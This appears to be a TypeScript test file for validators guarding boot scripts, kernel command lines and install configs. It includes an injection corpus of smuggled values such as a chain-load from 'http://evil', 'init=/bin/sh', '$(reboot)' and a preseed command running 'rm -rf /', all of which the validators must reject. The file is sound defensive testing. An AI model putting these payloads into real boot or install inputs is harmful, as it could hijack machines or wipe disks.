// Validators for everything that reaches a boot script, kernel command line or install config, with an injection corpus.

import { describe, expect, it } from 'vitest';
import fc from 'fast-check';
import {
  bootUrlSchema,
  callbackTokenSchema,
  diskMirrorSchema,
  diskSizeSchema,
  domainSchema,
  flagSchema,
  hostLabelSchema,
  hostnameSchema,
  ipv4Schema,
  ipv6Schema,
  kernelArgSchema,
  macSchema,
  osIdSchema,
  sshKeysSchema,
  sshPublicKeySchema,
  strongRootPasswordSchema,
  urlSchema,
} from '../../../src/boot/templates/value-schemas.js';
import { ECDSA, ED25519, RSA, sshBlob } from './ssh-key-fixture.js';

/** Strings that would end a token, a line or a quoted string somewhere downstream. */
const INJECTIONS = [
  '\n', '\r', '\r\n', '\0', ' ', '\t', '"', "'", '`', '$(', '${', '$', ';', '|', '&&', '\\', '<', '>', '{', '}',
  '\u2028', '\u0085', '\v', '\f', '#', '*', '?', '\x1b',
];
const INJECTED_TAILS = [
  '\nkernel http://evil/x', ' init=/bin/sh', "';reboot;'", '$(reboot)', '`reboot`', '\r\nd-i preseed/late_command string rm -rf /',
  '"; chain http://evil #', '${net0/mac}', '\\\nboot', '|| shell',
];

function rejectsAll(schema: { safeParse(v: unknown): { success: boolean } }, base: string, allowed: string[] = []) {
  for (const inj of INJECTIONS.filter((i) => !allowed.includes(i))) {
    for (const candidate of [`${base}${inj}`, `${inj}${base}`, `${base.slice(0, 1)}${inj}${base.slice(1)}`]) {
      expect(schema.safeParse(candidate).success, JSON.stringify(candidate)).toBe(false);
    }
  }
  for (const tail of INJECTED_TAILS) expect(schema.safeParse(`${base}${tail}`).success, JSON.stringify(tail)).toBe(false);
}

describe('hostname', () => {
  it('accepts RFC 1123 names', () => {
    for (const h of ['a', 'node7', 'web-01.example.com', '1host', '0', 'x'.repeat(63), `${'a'.repeat(63)}.${'b'.repeat(63)}.${'c'.repeat(63)}.${'d'.repeat(61)}`]) {
      expect(hostnameSchema.safeParse(h).success, h).toBe(true);
    }
  });
  it('rejects bad labels, lengths and injections', () => {
    for (const h of ['', '-a', 'a-', 'a..b', '.a', 'a.', 'x'.repeat(64), 'a_b', 'ä', `${'a.'.repeat(127)}ab`]) {
      expect(hostnameSchema.safeParse(h).success, h).toBe(false);
    }
    rejectsAll(hostnameSchema, 'node7');
    rejectsAll(domainSchema, 'example.com');
    rejectsAll(hostLabelSchema, 'node7');
    expect(hostLabelSchema.safeParse('a.b').success).toBe(false);
  });
  it('random strings outside the alphabet never pass (fuzz)', () => {
    fc.assert(
      fc.property(fc.string({ maxLength: 80 }), (s) => !hostnameSchema.safeParse(s).success || /^[A-Za-z0-9.-]+$/.test(s)),
      { numRuns: 5000 },
    );
  });
});

describe('ssh public key', () => {
  it('accepts ed25519, rsa, ecdsa with and without comments', () => {
    for (const k of [ED25519, RSA, ECDSA, `${ED25519} user@host`, `${RSA} John Doe laptop-2024`]) {
      expect(sshPublicKeySchema.safeParse(k).success, k).toBe(true);
    }
  });
  it('rejects unknown types, blob/type mismatch, garbage and injections', () => {
    expect(sshPublicKeySchema.safeParse(`ssh-dss ${sshBlob('ssh-dss', Buffer.alloc(40))}`).success).toBe(false);
    expect(sshPublicKeySchema.safeParse(`ssh-ed25519 ${sshBlob('ssh-rsa', Buffer.alloc(40))}`).success).toBe(false);
    expect(sshPublicKeySchema.safeParse('ssh-ed25519 AAAA').success).toBe(false);
    expect(sshPublicKeySchema.safeParse('ssh-ed25519').success).toBe(false);
    expect(sshPublicKeySchema.safeParse(`${ED25519}  double-space`).success).toBe(false);
    expect(sshPublicKeySchema.safeParse(`${ED25519} trailing `).success).toBe(false);
    for (const inj of INJECTIONS.filter((i) => i !== ' ')) {
      expect(sshPublicKeySchema.safeParse(`${ED25519} c${inj}x`).success, JSON.stringify(inj)).toBe(false);
    }
    for (const tail of INJECTED_TAILS.filter((t) => t !== ' init=/bin/sh')) {
      expect(sshPublicKeySchema.safeParse(`${ED25519} ${tail}`).success, tail).toBe(false);
    }
  });
  it('the ssh_key parameter splits several keys, one per line', () => {
    expect(sshKeysSchema.parse(`${ED25519} a\n\n${RSA} b\r\n`)).toEqual([`${ED25519} a`, `${RSA} b`]);
    expect(sshKeysSchema.safeParse(`${ED25519}\nrm -rf /`).success).toBe(false);
  });
});

describe('URLs', () => {
  it('accepts http(s) URLs', () => {
    for (const u of ['http://10.0.0.1:8080/cb', 'https://example.com/a/b?x=1&y=2', 'http://[fd00::1]:80/x', 'http://h/%20']) {
      expect(urlSchema.safeParse(u).success, u).toBe(true);
    }
    expect(bootUrlSchema.safeParse('http://10.0.0.1:8080/images/debian-12').success).toBe(true);
  });
  it('rejects other schemes, credentials, bad escapes and injections', () => {
    for (const u of ['ftp://h/x', 'file:///etc/passwd', 'javascript:alert(1)', 'tftp://h/x', 'http://user:pw@h/', 'http:/h',
      'http://', '//h/x', 'h/x', 'http://h/%zz', 'HTTP://h/x y', 'http://h/#frag']) {
      expect(urlSchema.safeParse(u).success, u).toBe(false);
    }
    // query strings are legal in install-config URLs, which are always single-quoted there
    rejectsAll(urlSchema, 'http://h/cb', ['&&', '?']);
    rejectsAll(bootUrlSchema, 'http://h/cb');
    expect(bootUrlSchema.safeParse('http://h/cb?x=1').success).toBe(false);
    expect(bootUrlSchema.safeParse('http://h/cb&x').success).toBe(false);
  });
});

describe('addresses and identifiers', () => {
  it('MAC normalises, rejects junk', () => {
    expect(macSchema.parse('52-54-00-AB-cd-01')).toBe('52:54:00:ab:cd:01');
    expect(macSchema.parse('52:54:00:ab:cd:01')).toBe('52:54:00:ab:cd:01');
    for (const m of ['52:54:00:ab:cd', '52:54-00:ab:cd:01', '52:54:00:ab:cd:0g', '525400abcd01', '52:54:00:ab:cd:01\n']) {
      expect(macSchema.safeParse(m).success, m).toBe(false);
    }
  });
  it('IPv4 and IPv6', () => {
    for (const ip of ['0.0.0.0', '10.213.0.1', '255.255.255.255']) expect(ipv4Schema.safeParse(ip).success).toBe(true);
    for (const ip of ['256.1.1.1', '01.2.3.4', '1.2.3', '1.2.3.4 ', '1.2.3.4\n', 'a.b.c.d']) expect(ipv4Schema.safeParse(ip).success, ip).toBe(false);
    for (const ip of ['::1', 'fd00::1', '2001:db8::8a2e:370:7334', '::ffff:1.2.3.4']) expect(ipv6Schema.safeParse(ip).success, ip).toBe(true);
    for (const ip of ['fe80::1%eth0', ':::1', '1.2.3.4', 'fd00::1\n', 'g::1']) expect(ipv6Schema.safeParse(ip).success, ip).toBe(false);
  });
  it('os_id, token, kernel argument', () => {
    for (const id of ['debian-12', 'ubuntu-24.04', 'rocky-9', '12']) expect(osIdSchema.safeParse(id).success).toBe(true);
    for (const id of ['Debian', '../x', '-x', '', 'a b']) expect(osIdSchema.safeParse(id).success, id).toBe(false);
    rejectsAll(osIdSchema, 'debian-12');
    expect(callbackTokenSchema.safeParse('abcdefghijklmnop').success).toBe(true);
    expect(callbackTokenSchema.safeParse('short').success).toBe(false);
    rejectsAll(callbackTokenSchema, 'abcdefghijklmnopqrs');
    expect(kernelArgSchema.safeParse('console=ttyS0,115200n8').success).toBe(true);
    rejectsAll(kernelArgSchema, 'console=ttyS0');
  });
  it('sizes and flags accept API forms', () => {
    expect(diskSizeSchema.parse('40')).toBe(40);
    expect(diskSizeSchema.parse(0)).toBe(0);
    for (const v of ['-1', '1.5', '4e3', ' 4', 1.5, -2, 'x', '']) expect(diskSizeSchema.safeParse(v).success, String(v)).toBe(false);
    expect(diskMirrorSchema.parse('1')).toBe(1);
    expect(diskMirrorSchema.safeParse(2).success).toBe(false);
    expect(flagSchema.parse('1')).toBe(true);
    expect(flagSchema.parse(0)).toBe(false);
    expect(flagSchema.parse('on')).toBe(true);
    expect(flagSchema.safeParse('maybe').success).toBe(false);
  });
  it('root password policy of the reinstall action', () => {
    expect(strongRootPasswordSchema.safeParse('Passw0rd!').success).toBe(true);
    for (const p of ['short1!', 'password1!', 'PASSWORD!!', 'Password12']) expect(strongRootPasswordSchema.safeParse(p).success, p).toBe(false);
  });
});
